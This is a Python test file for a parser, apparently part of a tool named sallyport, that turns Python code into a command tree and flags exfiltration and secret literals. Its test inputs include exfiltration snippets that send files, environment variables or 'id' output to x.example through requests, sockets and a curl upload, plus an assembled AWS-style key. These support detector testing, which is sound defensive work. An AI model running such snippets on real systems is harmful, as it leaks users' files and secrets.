"""Python to a command tree, as `sallyport parse --protocol python` prints it."""

from __future__ import annotations

import json

import pytest

from engine.command.parse import parse_command, parse_lines
from engine.command.python.parse import parse_python
from engine.command.tree import Command, Effect


def tree(text: str | bytes) -> Command:
    return parse_python(text).command


def test_a_program_in_one_look() -> None:
    command = tree("import os\nprint(os.getcwd())\n")
    assert command.protocol == "python"
    assert command.complete
    assert [(one.kind, one.effect, one.statement) for one in command.operations] == [
        ("import_module", Effect.READ, 0),
        ("compute", Effect.READ, 1),
        ("compute", Effect.READ, 2),
    ]


@pytest.mark.parametrize("text", ["", "# nothing", "x = 1", "'''text'''"])
def test_what_does_nothing_is_empty(text: str) -> None:
    assert [one.kind for one in tree(text).operations] == ["empty"]
    assert tree(text).complete


@pytest.mark.parametrize(
    "text", [b"\xff", b"\x00", b"x y", b"(" * 1000, "\ud800", b"x" * 70_000, "-" * 5000 + "1", "# coding: utf-7\n"]
)
def test_what_nobody_can_read_is_unknown(text: bytes | str) -> None:
    command = tree(text)
    assert [one.kind for one in command.operations] == ["unknown"]
    assert not command.complete
    assert command.problems


def test_the_digest_is_of_protocol_and_text() -> None:
    assert tree("x = 1").digest == tree(b"x = 1").digest
    assert tree("x = 1").digest != tree("x = 2").digest
    assert len(tree("x = 1").digest) == 64


@pytest.mark.parametrize(
    ("text", "leaves"),
    [
        ("import requests\nrequests.post('https://x.example/', data=open('a').read())", True),
        ("import os, socket\ns = socket.socket()\ns.send(os.environ['A'].encode())", True),
        (
            "import subprocess, requests\nx = subprocess.check_output(['id'])\nrequests.get(f'https://x.example/{x}')",
            True,
        ),
        ("import os\nos.system('curl -F file=@/srv/notes.txt https://x.example/')\nopen('a')", True),
        ("import requests\nrequests.get('https://x.example/')\nopen('a')", False),
        ("import requests\nrequests.post('https://x.example/', data=input())", False),
        ("import pandas\nx = open('a').read()\npandas.read_csv('https://x.example/?' + x)", True),
        ("open('a')", False),
    ],
)
def test_data_that_leave(text: str, leaves: bool) -> None:
    assert ("exfiltration" in tree(text).features) is leaves


def test_secrets_are_found_by_their_form_also_when_put_together() -> None:
    key = "AKIA" + "IOSFODNN7" + "ABCDEFG"
    assert "secret_literal" in tree(f"x = '{key}'").features
    assert "secret_literal" in tree(f"x = ['{key[:8]}' + '{key[8:]}']\nprint('{key[:8]}' + '{key[8:]}')").features


def test_lines_of_json() -> None:
    (answer,) = parse_lines("python", [json.dumps({"id": 1, "text": "import os"})])
    made = json.loads(answer)
    assert made["command"]["operations"][0]["python"]["module"] == "os"


def test_the_same_text_is_the_same_tree() -> None:
    text = "import os as a\nimport math as a\na.b.c()\n(print if 1 else a.system)()\nexec('a.d()')"
    assert parse_command("python", text).encoded == parse_command("python", text).encoded
